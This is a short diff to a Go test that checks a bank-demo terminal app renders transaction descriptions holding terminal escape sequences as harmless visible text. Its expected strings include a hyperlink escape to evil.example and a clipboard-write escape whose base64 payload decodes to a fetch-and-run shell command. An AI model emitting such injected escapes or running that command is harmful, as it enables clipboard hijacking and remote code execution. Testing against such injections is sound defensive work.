@@ -108,7 +108,7 @@ func TestBankDemoInTmux(t *testing.T) {
 	// byte is there.
 	s.run("send-keys", "-t", s.name, "C-j")
 	s.run("send-keys", "-t", s.name, "C-j")
-	scr = s.waitFor("Penny demo · Everyday Checking")
+	s.waitFor("Penny demo · Everyday Checking")
 	scr = s.waitFor("TRADER JOE'S #552")
 	for _, want := range []string{"␛[31mURGENT␛[0m CALL 555-0100", "␛]8;;https://evil.example/␛\\PAYPAL *REFUND", "␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␇COPY SHOP"} {
 		if !strings.Contains(scr, want) {
